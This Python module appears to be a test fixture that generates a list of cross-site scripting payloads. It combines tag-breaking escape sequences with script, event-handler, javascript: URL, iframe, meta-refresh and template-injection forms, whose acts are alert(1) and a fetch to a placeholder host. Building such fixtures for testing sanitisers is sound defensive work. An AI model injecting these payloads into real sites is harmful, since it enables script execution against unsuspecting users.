"""Texts that would do something on a page if any part of it took them for markup or script."""

from __future__ import annotations

from itertools import product

_ACTS = ("alert(1)", "fetch('//example.invalid/x')")
_WAYS_OUT = (
    "",
    "</script>",
    "</SCRIPT >",
    "</style>",
    "</title>",
    "-->",
    "]]>",
    '">',
    "'>",
    "\u2028",
    "\u2029",
    "\\u003c/script>",
    "*/",
    "`${",
)
_FORMS = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<!--<script>{act}",
    "javascript:{act}",
    "&lt;script&gt;{act}",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<meta http-equiv=refresh content='0;url=//example.invalid'>{act}",
    "\u202e<b>{act}</b>\u202c",
    "{{constructor.constructor('{act}')()}}",
)
PAYLOADS = [
    out + form.replace("{act}", act) for out, form, act in product(_WAYS_OUT, _FORMS, _ACTS)
]
